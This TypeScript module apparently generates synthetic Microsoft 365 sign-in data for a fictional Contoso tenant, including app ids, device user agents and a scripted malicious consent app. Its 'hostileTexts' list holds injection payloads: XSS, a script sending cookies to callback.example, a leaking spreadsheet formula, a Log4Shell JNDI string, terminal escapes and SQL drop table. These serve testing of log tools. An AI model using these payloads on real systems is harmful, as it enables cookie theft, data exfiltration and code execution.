/** Cloud applications, the user agents people bring, and the service principals of the tenant. */
import { draw, weighted } from "../hash.js";
import type { Draw } from "../hash.js";
import type { Person } from "./person.js";

export interface App {
  readonly name: string;
  readonly id: string;
  readonly resource: string;
  readonly resourceId: string;
}

const graph = ["Microsoft Graph", "00000003-0000-0000-c000-000000000000"] as const;
const exchange = ["Office 365 Exchange Online", "00000002-0000-0ff1-ce00-000000000000"] as const;
const sharepoint = ["Office 365 SharePoint Online", "00000003-0000-0ff1-ce00-000000000000"] as const;
const directory = ["Windows Azure Active Directory", "00000002-0000-0000-c000-000000000000"] as const;
const management = ["Windows Azure Service Management API", "797f4846-ba00-4fd7-ba43-dac1f8f63013"] as const;

const app = (name: string, id: string, on: readonly [string, string]): App => ({
  name,
  id,
  resource: on[0],
  resourceId: on[1],
});

/** Names and ids as Microsoft documents them for its own applications; the rest are Contoso's. */
export const apps = {
  office: app("OfficeHome", "4765445b-32c6-49b0-83e6-1d93765276ca", graph),
  outlook: app("Microsoft Office", "d3590ed6-52b3-4102-aeff-aad2292ab01c", exchange),
  owa: app("One Outlook Web", "9199bf20-a13f-4107-85dc-02114787ef48", exchange),
  teams: app("Microsoft Teams", "1fec8e78-bce4-4aaf-ab1b-5451cc387264", graph),
  teamsWeb: app("Microsoft Teams Web Client", "5e3ce6c0-2b1f-4285-8d4b-75ee78787346", graph),
  sharepoint: app("Office 365 SharePoint Online", "00000003-0000-0ff1-ce00-000000000000", sharepoint),
  onedrive: app("OneDrive SyncEngine", "ab9b8c07-8f02-4f72-87fa-80105867a763", sharepoint),
  portal: app("Azure Portal", "c44b4083-3bb0-49c1-b47d-974e53cbdf3c", management),
  azureCli: app("Microsoft Azure CLI", "04b07795-8ddb-461a-bbee-02f9e1bf7b46", management),
  powershell: app("Azure Active Directory PowerShell", "1b730954-1685-4b74-9bfd-dac224a7b894", directory),
  graphPowerShell: app("Microsoft Graph Command Line Tools", "14d82eec-204b-4c2f-b7e8-296a70dab67e", graph),
  smtp: app("Office 365 Exchange Online", "00000002-0000-0ff1-ce00-000000000000", exchange),
  broker: app("Microsoft Authentication Broker", "29d9ed98-a469-4536-ade2-f981bc1d605e", graph),
  signIn: app("Windows Sign In", "38aa3b87-a06d-4817-b275-7a316988d93b", directory),
  crm: app("Contoso CRM", "6b0f3a52-1f0b-4c58-9f6c-2f6c7a6f1a01", graph),
  hr: app("Contoso People", "6b0f3a52-1f0b-4c58-9f6c-2f6c7a6f1a02", graph),
  tickets: app("Contoso Service Desk", "6b0f3a52-1f0b-4c58-9f6c-2f6c7a6f1a03", graph),
  expenses: app("Contoso Expenses", "6b0f3a52-1f0b-4c58-9f6c-2f6c7a6f1a04", graph),
} as const satisfies Record<string, App>;

export const pickInteractiveApp = weighted<App>([
  [22, apps.office],
  [16, apps.owa],
  [10, apps.teamsWeb],
  [12, apps.sharepoint],
  [8, apps.signIn],
  [9, apps.crm],
  [5, apps.hr],
  [7, apps.tickets],
  [4, apps.expenses],
  [3, apps.portal],
  [4, apps.outlook],
]);
export const pickBackgroundApp = weighted<App>([
  [30, apps.teams],
  [26, apps.outlook],
  [20, apps.onedrive],
  [8, apps.broker],
  [8, apps.sharepoint],
  [5, apps.crm],
  [3, apps.graphPowerShell],
]);

/** The OAuth application that the thief has Dana consent to, and ordinary ones that people consent to all the time. */
export const maliciousApp = {
  name: "Mail Archiver Pro",
  id: "b7d41c1e-5a0e-4e0b-9a34-0c2c7d7e6f11",
  servicePrincipalId: "5e1c9f7a-2b8d-4c63-8f5e-1d2c3b4a5968",
} as const;
export const ordinaryApps = [
  ["Calendar Buddy", "Calendars.Read openid profile"],
  ["Whiteboard Sync", "Files.Read User.Read"],
  ["Expense Snap", "User.Read offline_access"],
  ["Signature Studio", "User.Read MailboxSettings.Read"],
  ["Survey Pilot", "User.Read email"],
  ["Room Finder", "Calendars.ReadWrite Place.Read.All"],
  ["Mail Merge Helper", "Mail.Send User.Read"],
] as const;

export interface Device {
  readonly os: string;
  readonly browser: string;
  readonly userAgent: string;
  readonly client: string;
  readonly isManaged: boolean;
}

const chromiumBuilds = ["129.0.0.0", "130.0.0.0", "131.0.0.0"];

/** The browser of a managed workstation; one build behind on some machines. */
export function workstationBrowser(seed: number, person: Person, day: number): Device {
  const d = draw(seed, "browser", person.index);
  const edge = d.chance(0.7);
  const lag = d.int(2);
  const build = chromiumBuilds[Math.max(0, (day > -6 ? 2 : 1) - lag)]!;
  const base = `Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${build} Safari/537.36`;
  return {
    os: "Windows10",
    browser: edge ? `Edge ${build}` : `Chrome ${build}`,
    userAgent: edge ? `${base} Edg/${build}` : base,
    client: "Browser",
    isManaged: true,
  };
}

export function phoneOf(person: Person): Device {
  return person.phone === "ios"
    ? {
        os: "Ios 17.7",
        browser: "Mobile Safari",
        userAgent:
          "Mozilla/5.0 (iPhone; CPU iPhone OS 17_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.7 Mobile/15E148 Safari/604.1",
        client: "Mobile Apps and Desktop clients",
        isManaged: false,
      }
    : {
        os: "Android 14",
        browser: "Chrome Mobile 130.0.0",
        userAgent:
          "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Mobile Safari/537.36",
        client: "Mobile Apps and Desktop clients",
        isManaged: false,
      };
}

/** Text that attackers leave in fields that people will look at: markup, terminal codes, formulas, reversed direction. */
export const hostileTexts = [
  "<img src=x onerror=alert(document.domain)>",
  '"><script>fetch("//callback.example/"+document.cookie)</script>',
  "\u001b]0;owned\u0007\u001b[31mcritical\u001b[0m",
  '=HYPERLINK("http://callback.example/?"&A1,"open")',
  "invoice_\u202Efdp.exe",
  "${jndi:ldap://callback.example/a}",
  "'; drop table logs; --",
  "| where 1==1 // \" ' ` \\",
] as const;

export function hostileText(d: Draw): string {
  return d.pick(hostileTexts);
}
